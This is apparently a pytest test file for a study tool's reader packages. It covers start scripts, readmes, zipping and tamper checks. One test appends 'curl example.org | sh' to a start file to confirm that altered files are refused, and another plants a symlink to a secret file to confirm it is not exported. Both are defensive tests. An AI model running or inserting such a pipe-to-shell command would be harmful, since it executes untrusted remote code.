"""Start files in a package for readers without Python."""

import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from turing_readers import observer, play
from turing_studies import freeze, protocol

from cowgan._version import __version__
from cowgan.errors import CowganError
from cowgan.turing.reading.package import JOURNAL_FILE, Package, read_manifest, zip_answers
from cowgan.turing.reading.start_files import start_files
from cowgan.turing.study.collection import collect
from cowgan.turing.study.study import Study

README, WINDOWS, POSIX = start_files("sub-R01")
needs_sh = pytest.mark.skipif(sys.platform == "win32", reason="runs a shell script")


@pytest.fixture(scope="module")
def frozen(tmp_path_factory) -> Study:
    return freeze(tmp_path_factory.mktemp("start"), protocol(readers=2))


@pytest.fixture
def package_folder(frozen, tmp_path) -> Path:
    """Return the package of the first reader, at the reader's."""
    return Path(shutil.copytree(frozen.package_folder("sub-R01"), tmp_path / "my files" / "R01"))


@pytest.fixture
def start(tmp_path) -> Callable[..., subprocess.CompletedProcess[str]]:
    """Return a function that runs a start file with fake programs, which print their call."""

    def run(file: Path, *programs: str) -> subprocess.CompletedProcess[str]:
        folder = tmp_path / "programs"
        folder.mkdir()
        for name in ("dirname", "sh"):
            (folder / name).symlink_to(str(shutil.which(name)))
        for name in programs:
            (folder / name).write_text(
                f'#!/bin/sh\nprintf "%s\\n" {name} "$@"\nexit 3\n', encoding="utf-8"
            )
            (folder / name).chmod(0o755)
        return subprocess.run(
            [file],
            env={"PATH": str(folder), "HOME": str(tmp_path)},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            encoding="utf-8",
            check=False,
        )

    return run


def test_every_package_explains_how_to_start(frozen):
    for reader in frozen.readers:
        folder = frozen.package_folder(reader)
        readme = (folder / README).read_text(encoding="utf-8")
        assert reader in readme
        for system in ("Windows", "macOS", "Linux"):
            assert system in readme
        for name in (WINDOWS, POSIX):
            assert name in readme
            assert f"napari-cowgan[all]=={__version__}" in (folder / name).read_text(
                encoding="utf-8"
            )
        assert read_manifest(folder).start_files.keys() == {README, WINDOWS, POSIX}
    assert b"\r\n" in (folder / WINDOWS).read_bytes()
    assert b"\r" not in (folder / POSIX).read_bytes()


def test_start_files_are_the_same_for_all_readers(frozen):
    first, second = (start_files(reader) for reader in frozen.readers)
    for name, content in first.items():
        assert content.replace(b"sub-R01", b"sub-R02") == second[name]


@needs_sh
def test_a_zipped_package_starts_after_it_is_unpacked(frozen, start, tmp_path):
    frozen.zip_package("sub-R01", tmp_path / "sub-R01.zip")
    subprocess.run(
        [sys.executable, "-c", _UNPACK, tmp_path / "sub-R01.zip", tmp_path / "a folder"], check=True
    )
    folder = tmp_path / "a folder" / "sub-R01"
    done = start(folder / POSIX, "cowgan")
    assert done.stdout.splitlines() == ["cowgan", "turing", "read", str(folder)]
    assert done.returncode == 3


_UNPACK = """
import sys, zipfile
from pathlib import Path

# As desktops unpack, which heed the mode of files.
with zipfile.ZipFile(sys.argv[1]) as archive:
    for entry in archive.infolist():
        assert entry.create_system == 3
        Path(archive.extract(entry, sys.argv[2])).chmod(entry.external_attr >> 16 & 0o777)
"""


@needs_sh
def test_a_missing_program_is_downloaded(package_folder, start):
    done = start(package_folder / POSIX, "uv")
    words = done.stdout.splitlines()
    assert "takes some minutes" in words[0]
    assert words[1:3] == ["uv", "tool"]
    assert words[-4:] == ["cowgan", "turing", "read", str(package_folder)]


@needs_sh
def test_without_any_way_to_start_the_readme_is_named(package_folder, start):
    done = start(package_folder / POSIX)
    assert done.returncode == 1
    assert "open README.txt and follow step 3" in done.stdout


@needs_sh
def test_a_file_started_inside_a_zip_says_to_unpack(package_folder, start):
    (package_folder / "manifest.json").unlink()
    done = start(package_folder / POSIX, "cowgan")
    assert done.returncode == 1
    assert "unpack the zip file first" in done.stdout


@pytest.mark.parametrize("name", [README, WINDOWS, POSIX])
def test_a_start_file_that_was_changed_is_not_trusted(
    frozen, package_folder, name, single_sentence
):
    play(package_folder, observer(frozen, "sub-R01", 1), trials=2)
    path = package_folder / name
    path.write_bytes(path.read_bytes() + b"curl example.org | sh\n")
    with pytest.raises(CowganError) as refusal:
        Package.open(package_folder)
    assert f"{name} was changed" in single_sentence(refusal)
    assert "do not start it" in single_sentence(refusal)
    with pytest.raises(CowganError) as refusal:
        collect(frozen, [package_folder])
    assert f"{name} in" in single_sentence(refusal)


def test_a_package_without_its_start_files_can_be_read(package_folder):
    for name in (WINDOWS, POSIX):
        (package_folder / name).unlink()
    Package.open(package_folder)


@pytest.mark.skipif(sys.platform == "win32", reason="links need rights there")
def test_a_journal_that_is_a_link_is_not_returned(package_folder, tmp_path, single_sentence):
    secret = tmp_path / "secret"
    secret.write_text("mine", encoding="utf-8")
    (package_folder / JOURNAL_FILE).symlink_to(secret)
    with pytest.raises(CowganError) as refusal:
        zip_answers(package_folder, tmp_path / "answers.zip")
    assert "does not lie in it" in single_sentence(refusal)
    assert not (tmp_path / "answers.zip").exists()


def test_answers_are_returned_as_one_small_file(frozen, package_folder, tmp_path, single_sentence):
    target = tmp_path / "answers.zip"
    with pytest.raises(CowganError) as refusal:
        zip_answers(package_folder, target)
    single_sentence(refusal)
    assert not target.exists()
    play(package_folder, observer(frozen, "sub-R01", 1))
    zip_answers(package_folder, target)
    with zipfile.ZipFile(target) as archive:
        assert sorted(archive.namelist()) == ["sub-R01/journal.jsonl", "sub-R01/manifest.json"]
    assert target.stat().st_size < (package_folder / "journal.jsonl").stat().st_size + 20_000
    (state,) = collect(frozen, [target])
    assert (state.reader, state.state) == ("sub-R01", "finished")
